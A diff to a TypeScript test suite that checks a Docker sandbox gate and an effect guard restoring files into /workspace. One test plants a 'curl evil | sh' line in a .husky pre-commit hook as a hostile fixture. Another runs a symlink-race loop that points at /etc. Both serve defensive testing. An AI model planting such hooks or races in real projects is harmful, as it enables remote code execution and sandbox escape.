@@ -580,6 +580,30 @@ describe('archive uploads: only the effect guard\'s restore into /workspace (iss
     expect(out).toContain('gone-is-gone');
   });
 
+  test('dockerode as the effect guard calls it (putArchive with an abort signal, infoArchive, getArchive) passes through the gate', async () => {
+    const viaGate = new Docker({ socketPath: sock }).getContainer(id);
+    const before: ProtectedState = {
+      entries: new Map([['.husky/pre-commit', { type: 'file', mode: 0o755, size: 8, data: Buffer.from('exit 0\n\n') }]]),
+      dirs: new Map([['.husky', 0o755]]), mode: 'full', notes: [], bytes: 0, requests: 0, ms: 0,
+    };
+    const plan = await restorePlan(before, ['.husky/pre-commit'], agent, agent);
+    await inSandbox('mkdir -p /workspace/.husky && echo "curl evil | sh" > /workspace/.husky/pre-commit');
+    await viaGate.putArchive(plan.tar!, { path: '/workspace', abortSignal: new AbortController().signal });
+    const stat = (await viaGate.infoArchive({ path: '/workspace/.husky/pre-commit' })) as unknown as { headers: Record<string, string> };
+    expect(JSON.parse(Buffer.from(stat.headers['x-docker-container-path-stat']!, 'base64').toString())).toMatchObject({ name: 'pre-commit', size: 8 });
+    const got = await new Promise<string>((resolve, reject) => {
+      void viaGate.getArchive({ path: '/workspace/.husky/pre-commit' }).then((s) => {
+        const x = tar.extract();
+        let text = '';
+        x.on('entry', (h, body, next) => { body.on('data', (d: unknown) => (text += String(d))); body.on('end', next); });
+        x.on('finish', () => resolve(text));
+        x.on('error', reject);
+        (s as unknown as NodeJS.ReadableStream).pipe(x);
+      }, reject);
+    });
+    expect(got).toBe('exit 0\n\n');
+  });
+
   test('what the engine gets is packed anew: nothing of the client\'s headers (names, PAX records) reaches it', async () => {
     rec.clear();
     const marker = `m${randomBytes(5).toString('hex')}`;
@@ -683,7 +707,7 @@ describe('archive uploads: only the effect guard\'s restore into /workspace (iss
     await inSandbox('cd /workspace && nohup sh -c \'while :; do mv race gone-$$ 2>/dev/null; rm -rf gone-$$; ln -s /etc race 2>/dev/null; done\' >/dev/null 2>&1 &');
     await eventually(async () => (await inSandbox('test -L /workspace/race && echo is-link')).includes('is-link') || undefined, { what: 'the racing process to plant its link' });
     const dir = mine({ name: 'race/', type: 'directory', mode: 0o755 });
-    const since = Math.floor(Date.now() / 1000) - 1;
+    rec.clear();
     const N = 25;
     for (let i = 0; i < N; i++) {
       const r = await putTar(id, await tarOf([dir, file(`race/raced-${i}`, 'x')]));
@@ -692,11 +716,10 @@ describe('archive uploads: only the effect guard\'s restore into /workspace (iss
     expect((await engine.getContainer(id).inspect()).State).toMatchObject({ Running: true, Paused: false });
     const out = await inSandbox('echo "in-etc=$(ls /etc | grep -c raced-)"; pkill -f "mv rac[e] gone"; echo done');
     expect(out).toContain('in-etc=0');
-    // the engine's own record: each extraction happened between a pause and an unpause of the sandbox
-    const until = Math.floor(Date.now() / 1000) + 1;
-    const ev = (await run('docker', ['events', '--since', String(since), '--until', String(until), '--filter', `container=${id}`, '--format', '{{.Action}}'])).stdout
-      .split('\n').filter((a) => ['pause', 'unpause', 'extract-to-dir'].includes(a));
-    expect(ev).toEqual(Array.from({ length: N }, () => ['pause', 'extract-to-dir', 'unpause']).flat());
+    // what the engine was asked, in order: each upload between a pause and an unpause of the sandbox
+    // (the engine's event stream drops events for a slow reader, so the recorder is the record)
+    const asked = [...rec.seen().matchAll(new RegExp(`(POST|PUT) (?:/v[0-9.]+)?/containers/${id}/(pause|unpause|archive)`, 'g'))].map((m) => m[2]);
+    expect(asked).toEqual(Array.from({ length: N }, () => ['pause', 'archive', 'unpause']).flat());
   });
 
   test('a sandbox that is not running gets no upload (it could not be paused)', async () => {
